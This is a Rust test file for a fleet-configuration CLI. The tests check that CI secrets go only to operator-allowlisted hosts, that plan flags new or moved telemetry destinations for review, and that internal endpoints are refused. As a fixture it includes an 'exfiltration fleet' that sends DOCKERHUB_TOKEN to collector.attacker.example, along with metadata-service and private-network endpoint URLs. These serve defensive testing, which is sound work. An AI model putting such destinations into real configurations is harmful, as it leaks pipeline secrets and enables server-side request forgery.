//! The trust decision lives outside the fleet file: a fleet from a pull request cannot send a CI secret to a
//! host it chooses (the operator's `--destination-token` allowlist, required under CI), cannot point a
//! destination at an internal address, and `plan` marks new or moved destinations `needs review`.

use crate::e2e;
use crate::support;

use e2e::{Dir, FLEET, LABELS, linode_writes};
use support::world::{Latencies, World};

async fn world() -> World {
    let world = World::start(LABELS, Latencies::default()).await;
    world.linode.state().kubeconfig_retry_after_secs = 0;
    world
}

fn with_destination(endpoint: &str, token_env: &str) -> String {
    format!(
        "{FLEET}\n[[destinations]]\ntype = \"otlp\"\nendpoint = \"{endpoint}\"\ntoken_env = \"{token_env}\"\nsignals = [\"traces\"]\n"
    )
}

fn line_of(fleet: &str, start: &str) -> usize {
    fleet.lines().position(|l| l.starts_with(start)).expect("the line") + 1
}

/// The exfiltration fleet: an `otlp` destination at a host of the file's choosing, carrying a pipeline secret.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn under_ci_a_token_needs_the_operators_allowlist_naming_its_host() {
    let world = world().await;
    let fleet = with_destination("https://collector.attacker.example/v1", "DOCKERHUB_TOKEN");
    let dir = Dir::new(&fleet);
    let secret = [("DOCKERHUB_TOKEN", "dckr_pat_S3CRET")];

    // Under CI, without an allowlist: exit 2 at the token_env line, nothing read or created.
    let ci = [secret[0], ("CI", "true")];
    let (code, report, stderr) = dir.run_env(&world, &["up", "--yes"], &ci).await;
    assert_eq!(code, 2, "{stderr}\n{report:#}");
    assert_eq!(report["errors"][0]["field"], "destinations[0].token_env", "{report:#}");
    assert_eq!(report["errors"][0]["line"], line_of(&fleet, "token_env"), "{report:#}");
    assert!(!format!("{report}{stderr}").contains("S3CRET"));
    assert_eq!(linode_writes(&world), Vec::<String>::new());

    // An allowlist that names the variable for another host: exit 2 at the endpoint's line.
    let mut env = ci.to_vec();
    env.push(("LKEOBS_DESTINATION_TOKENS", "DOCKERHUB_TOKEN=collector.example.com"));
    let (code, report, stderr) = dir.run_env(&world, &["up", "--yes"], &env).await;
    assert_eq!(code, 2, "{stderr}\n{report:#}");
    assert_eq!(report["errors"][0]["field"], "destinations[0].endpoint", "{report:#}");
    assert_eq!(report["errors"][0]["line"], line_of(&fleet, "endpoint"), "{report:#}");
    assert!(
        report["errors"][0]["message"]
            .as_str()
            .unwrap_or("")
            .contains("collector.attacker.example")
    );

    // The flag works the same, and an allowlist that does not name the variable refuses it.
    let (code, report, _) = dir
        .run_env(
            &world,
            &[
                "up",
                "--yes",
                "--destination-token",
                "SPLUNK_HEC_TOKEN=splunk.example.com",
            ],
            &ci,
        )
        .await;
    assert_eq!(code, 2, "{report:#}");
    assert!(
        report["errors"][0]["message"]
            .as_str()
            .unwrap_or("")
            .contains("not on the operator's allowlist")
    );
    assert_eq!(linode_writes(&world), Vec::<String>::new());

    // Outside CI, without an allowlist, interactive use stays as it was: planning works.
    let (code, report, stderr) = dir.run_env(&world, &["plan"], &secret).await;
    assert_eq!(code, 0, "{stderr}\n{report:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_allowed_host_passes_and_plan_marks_new_and_moved_destinations() {
    let world = world().await;
    let fleet = with_destination("https://collector.example.com/v1", "PARTNER_OTLP_TOKEN");
    let dir = Dir::new(&fleet);
    let env = [
        ("PARTNER_OTLP_TOKEN", "partner-token-value"),
        ("CI", "true"),
        ("LKEOBS_DESTINATION_TOKENS", "PARTNER_OTLP_TOKEN=collector.example.com"),
    ];
    let (code, plan, stderr) = dir.run_env(&world, &["plan"], &env).await;
    assert_eq!(code, 0, "{stderr}\n{plan:#}");
    let d = &plan["destinations"][0];
    assert_eq!(
        (d["status"].as_str(), d["needs_review"].as_bool()),
        (Some("new"), Some(true)),
        "{plan:#}"
    );

    let (code, report, stderr) = dir.run_env(&world, &["up", "--yes", "--no-verify"], &env).await;
    assert_eq!(code, 0, "{stderr}\n{report:#}");
    let (code, plan, stderr) = dir.run_env(&world, &["plan"], &env).await;
    assert_eq!(code, 0, "{stderr}\n{plan:#}");
    let d = &plan["destinations"][0];
    assert_eq!(
        (d["status"].as_str(), d["needs_review"].as_bool()),
        (Some("unchanged"), Some(false)),
        "{plan:#}"
    );

    // The same token moved to another host (allowed by the operator): plan says so before up sends it.
    std::fs::write(
        dir.fleet(),
        with_destination("https://ingest.example.net/v1", "PARTNER_OTLP_TOKEN"),
    )
    .unwrap();
    let env = [
        env[0],
        (
            "LKEOBS_DESTINATION_TOKENS",
            "PARTNER_OTLP_TOKEN=collector.example.com,ingest.example.net",
        ),
    ];
    let (code, plan, stderr) = dir.run_env(&world, &["plan"], &env).await;
    assert_eq!(code, 0, "{stderr}\n{plan:#}");
    let d = &plan["destinations"][0];
    assert_eq!(d["status"], "host_changed", "{plan:#}");
    assert_eq!(d["running_host"], "collector.example.com", "{plan:#}");
    assert_eq!(d["needs_review"], true, "{plan:#}");
    let text = dir.run_text(&world, &["plan"]).await;
    assert!(
        text.contains("! destinations[0] otlp → ingest.example.net (token PARTNER_OTLP_TOKEN): host changed from collector.example.com, needs review"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_destination_at_the_metadata_address_or_a_private_network_is_refused() {
    let world = world().await;
    for endpoint in [
        "https://169.254.169.254/latest/meta-data",
        "https://10.0.0.8:4318",
        "https://[::ffff:127.0.0.1]:4318",
        "https://localhost:4318",
    ] {
        let fleet = with_destination(endpoint, "PARTNER_OTLP_TOKEN");
        let dir = Dir::new(&fleet);
        let (code, report, stderr) = dir.run_env(&world, &["validate", "--offline"], &[]).await;
        assert_eq!(code, 2, "{endpoint}: {stderr}\n{report:#}");
        assert_eq!(report["errors"][0]["field"], "destinations[0].endpoint", "{report:#}");
        assert_eq!(report["errors"][0]["line"], line_of(&fleet, "endpoint"), "{report:#}");
    }
    assert_eq!(linode_writes(&world), Vec::<String>::new());
}
